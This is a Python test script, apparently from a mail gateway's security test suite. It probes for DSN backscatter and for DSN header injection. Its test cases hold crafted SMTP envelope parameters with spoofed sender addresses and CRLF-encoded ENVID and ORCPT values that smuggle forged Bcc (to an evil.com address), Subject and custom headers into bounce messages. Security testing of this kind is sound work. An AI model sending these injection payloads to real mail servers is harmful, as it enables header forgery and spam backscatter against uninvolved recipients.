"""DSN backscatter and DSN content injection (queue mode). The downstream
Postfix answers 550 to RCPT reject@contoso.com."""
import os
import subprocess
import time
from lib import *

CASES = [
    ("inbound, outside sender, RET=FULL", b"<victim@example.net> RET=FULL", b"<reject@contoso.com> NOTIFY=FAILURE", b"contoso,office365_emails,inline"),
    ("inbound, no Info header (inferred inbound)", b"<victim@example.net> RET=FULL", b"<reject@contoso.com>", None),
    ("inbound claiming a tenant sender (MAIL FROM victim@contoso.com)", b"<victim@contoso.com> RET=FULL", b"<reject@contoso.com> NOTIFY=FAILURE", b"contoso,office365_emails,inline"),
    ("inbound claiming other tenant's sender (fabrikam)", b"<victim@fabrikam.com> RET=FULL", b"<reject@contoso.com> NOTIFY=FAILURE", b"contoso,office365_emails,inline"),
    ("outgoing, tenant sender, ENVID/ORCPT with encoded CRLF", b"<bob@contoso.com> RET=FULL ENVID=x+0D+0ABcc:+20victim@evil.com",
     b"<reject@contoso.com> NOTIFY=FAILURE ORCPT=rfc822;y+0D+0ASubject:+20forged", b"contoso,office365_emails,sent,inline"),
    ("outgoing, ORCPT utf-8 with CRLF escape", b"<bob@contoso.com> SMTPUTF8",
     b"<reject@contoso.com> ORCPT=utf-8;y\\x{0D}\\x{0A}X-Injected:\\x{20}1", b"contoso,office365_emails,sent,inline"),
    ("outgoing, NOTIFY=NEVER", b"<bob@contoso.com>", b"<reject@contoso.com> NOTIFY=NEVER", b"contoso,office365_emails,sent,inline"),
]

if __name__ == "__main__":
    for name, mail, rcpt, info in CASES:
        clear()
        log = transaction(QUEUE, mail, [rcpt, b"<alice@contoso.com>"], body(info=info))
        replies = [f"{c.split(' ')[0]}:{r.splitlines()[-1][:50]}" for c, r in log[2:] if c != "QUIT"]
        time.sleep(6)
        q = queued()
        dsns = [m for m in q if m["sender"] == "" or b"multipart/report" in m["content"]]
        print(f"{name}:\n   gw {replies}\n   downstream: {[(m['sender'], m['rcpts']) for m in q]} DSNs={len(dsns)}")
        for d in dsns:
            h = d["content"].decode(errors="replace")
            inj = [l for l in h.splitlines() if l.startswith(("Bcc:", "X-Injected", "Subject: forged"))]
            print(f"   DSN to {d['rcpts']}: injected lines={inj} size={len(d['content'])}")
            for l in h.splitlines():
                if l.startswith(("Original-Recipient", "Original-Envelope-Id", "Final-Recipient", "Subject")):
                    print("     ", l[:120])
    out = subprocess.run([os.environ.get("EXOGATE", os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../target/debug/exogate")), "queue", "list", "--config", "/tmp/atk/gw-queue/gateway.toml"],
                         capture_output=True, text=True)
    print("gateway queue:", out.stdout[-1500:], out.stderr[-500:])
